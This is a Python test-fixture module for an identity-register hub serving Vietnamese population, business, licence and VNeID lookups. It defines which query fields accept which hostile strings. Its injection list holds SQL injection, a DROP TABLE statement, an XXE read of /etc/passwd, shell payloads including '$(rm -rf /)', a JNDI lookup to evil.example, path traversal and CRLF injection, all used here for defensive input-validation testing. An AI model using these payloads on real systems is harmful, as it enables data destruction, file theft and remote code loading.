"""Bad input from callers: hostile strings, and every text field of every query model.

Shared by the library's and the sidecar's cases. Each `Slot` is one field of one query
model inside an otherwise valid query; a hostile string replaces its value. Most
fields are identifiers, codes or enumerations and refuse every string here. A few are
free text by contract (a person's name as typed at a desk, an opaque code or nonce the
provider issued, the purpose's words): there the strings the contract admits travel to
the upstream as data, and the upstream's typed answer comes back.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

from hub.connector import Operation
from hub.errors import HubError, NotFound, Unauthenticated

# Well-formed keys of records the mocks do not hold: an admitted string gets the
# register's "no such record", never another's data.
NATIONAL_ID = "001090000001"  # Hà Nội, male, born 1990
LEGACY_ID = "123456789"
ENTERPRISE = "0312345673"
LICENCE = "010100000001"
BUDGET_UNIT = "1000001"
NAME = "Nguyễn Văn An"
REDIRECT = "http://127.0.0.1:8000/callback"

INJECTIONS: dict[str, str] = {
    "sql": "' OR '1'='1' --",
    "sql statement": "Robert'); DROP TABLE citizens;--",
    "xml entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "xml cdata": "]]><injected/><![CDATA[",
    "shell": "$(rm -rf /)",
    "shell backticks": "`cat /etc/passwd`",
    "format string": "%s%s%s%n%x",
    "template": "${jndi:ldap://evil.example/a}",
    "python format": "{self.__class__.__mro__}",
    "path": "../../../../etc/passwd",
    "crlf": "Nguyễn Văn An\r\nX-Injected: yes",
    "nul": "Nguyễn\x00Văn An",
    "right-to-left override": "\u202eNguyễn Văn An",
    "long": "A" * 5_000,
    "very long": "A" * 100_000,
}

# What each free-text contract admits.
#: A name: no digits, no control or format characters, whitespace collapsed (so CR LF
#: becomes a space), at most 100 characters.
NAME_ADMITS = frozenset(
    {
        "sql statement",
        "xml entity",
        "xml cdata",
        "shell",
        "shell backticks",
        "format string",
        "template",
        "python format",
        "path",
        "crlf",
    }
)
#: An authorization code: printable ASCII without spaces, at most 2,048 characters.
CODE_ADMITS = frozenset({"xml cdata", "format string", "template", "python format", "path"})
#: A nonce: the same, 16 characters at least.
NONCE_ADMITS = CODE_ADMITS - {"format string"}
#: The purpose's words: printable text, at most 128 characters. A right-to-left
#: override is not printable text: it reorders what an auditor reads.
PURPOSE_ADMITS = frozenset(
    {
        "sql",
        "sql statement",
        "xml entity",
        "xml cdata",
        "shell",
        "shell backticks",
        "format string",
        "template",
        "python format",
        "path",
    }
)


@dataclass(frozen=True)
class Slot:
    """One field of one query model, in a query that is valid without the hostile value.

    Args:
        source: The source.
        operation: lookup, verify or authenticate.
        field: The field the hostile value goes in.
        base: The valid query.
        admits: The hostile strings the field's contract admits.
        answer: The upstream's typed answer to an admitted string (the key is unknown).
    """

    source: str
    operation: Operation
    field: str
    base: dict[str, Any]
    admits: frozenset[str] = frozenset()
    answer: type[HubError] | None = None
    id: str = field(init=False)

    def __post_init__(self) -> None:
        object.__setattr__(self, "id", f"{self.source} {self.operation.value} {self.field}")

    def query(self, value: Any) -> dict[str, Any]:
        return {**self.base, self.field: value}


LOOKUP, VERIFY, AUTHENTICATE = Operation.LOOKUP, Operation.VERIFY, Operation.AUTHENTICATE
_BY_LEGACY_ID = {"legacy_id": LEGACY_ID, "full_name": NAME, "date_of_birth": "1990-05-01"}
_CLAIM = {
    "national_id": NATIONAL_ID,
    "full_name": NAME,
    "date_of_birth": "1990-05-01",
    "sex": "male",
    "legacy_id": LEGACY_ID,
}
_LICENCE_CLAIM = {"number": LICENCE, "full_name": NAME, "date_of_birth": "1990-05-01"}
_CREDENTIAL = {
    "code": "an-authorization-code",
    "code_verifier": "v" * 43,
    "nonce": "n" * 16,
    "redirect_uri": REDIRECT,
    "level": 2,
}

SLOTS = [
    Slot("population", LOOKUP, "national_id", {"national_id": NATIONAL_ID}),
    Slot("population", LOOKUP, "legacy_id", _BY_LEGACY_ID),
    Slot("population", LOOKUP, "full_name", _BY_LEGACY_ID, NAME_ADMITS, NotFound),
    Slot("population", LOOKUP, "date_of_birth", _BY_LEGACY_ID),
    *(Slot("population", VERIFY, name, _CLAIM) for name in ("national_id", "date_of_birth")),
    Slot("population", VERIFY, "full_name", _CLAIM, NAME_ADMITS, NotFound),
    *(Slot("population", VERIFY, name, _CLAIM) for name in ("sex", "legacy_id")),
    Slot("business", LOOKUP, "code", {"code": ENTERPRISE}),
    Slot("business", LOOKUP, "legal_representative", {"legal_representative": NATIONAL_ID}),
    Slot("driving_licence", LOOKUP, "number", {"number": LICENCE}),
    Slot("driving_licence", LOOKUP, "holder_national_id", {"holder_national_id": NATIONAL_ID}),
    Slot("driving_licence", VERIFY, "number", _LICENCE_CLAIM),
    Slot("driving_licence", VERIFY, "full_name", _LICENCE_CLAIM, NAME_ADMITS, NotFound),
    Slot("driving_licence", VERIFY, "date_of_birth", _LICENCE_CLAIM),
    Slot("budget_unit", LOOKUP, "code", {"code": BUDGET_UNIT}),
    *(
        Slot("catalog", LOOKUP, name, {"catalog": "ethnic_groups", "code": "01"})
        for name in ("catalog", "code")
    ),
    Slot("catalog", LOOKUP, "parent", {"catalog": "wards", "parent": "01"}),
    *(
        Slot("catalog", LOOKUP, name, {"successors_of": "00001", "level": "ward"})
        for name in ("successors_of", "level")
    ),
    Slot("vneid", AUTHENTICATE, "code", _CREDENTIAL, CODE_ADMITS, Unauthenticated),
    Slot("vneid", AUTHENTICATE, "code_verifier", _CREDENTIAL),
    Slot("vneid", AUTHENTICATE, "nonce", _CREDENTIAL, NONCE_ADMITS, Unauthenticated),
    Slot("vneid", AUTHENTICATE, "redirect_uri", _CREDENTIAL),
    Slot("vneid", AUTHENTICATE, "level", _CREDENTIAL),
]

#: Identifiers as a hurried desk types them: (source, field, what is wrong, value).
MALFORMED = [
    *(
        (source, field, what, value)
        for source, field in (
            ("population", "national_id"),
            ("business", "legal_representative"),
            ("driving_licence", "holder_national_id"),
        )
        for what, value in (
            ("11 digits", "00109000001"),
            ("13 digits", "0010900000012"),
            ("an unknown province", "999090000001"),
            ("born in the future", "001290000001"),
            ("a letter O for a zero", "O01090000001"),
            ("full-width digits", "００１０９００００００１"),
        )
    ),
    ("population", "legacy_id", "8 digits", "12345678"),
    ("business", "code", "a wrong check digit", "0312345674"),
    ("business", "code", "branch 000", "0312345673-000"),
    ("business", "code", "11 digits", "03123456731"),
    ("driving_licence", "number", "11 digits", "01010000000"),
    ("budget_unit", "code", "6 digits", "100000"),
    ("catalog", "code", "3 digits for a 2-digit code list", "001"),
    ("catalog", "parent", "a ward for a province", "00001"),
    ("catalog", "successors_of", "a province for a ward", "01"),
]

#: Values of the wrong type for any field of a query.
WRONG_TYPES: dict[str, Any] = {
    "integer": 1990,
    "boolean": True,
    "list": ["1990"],
    "object": {"value": "1990"},
}

PURPOSE_FIELDS = ("client", "officer", "procedure", "dossier")


def nested(depth: int) -> Any:
    """A string inside ``depth`` lists."""
    value: Any = "x"
    for _ in range(depth):
        value = [value]
    return value
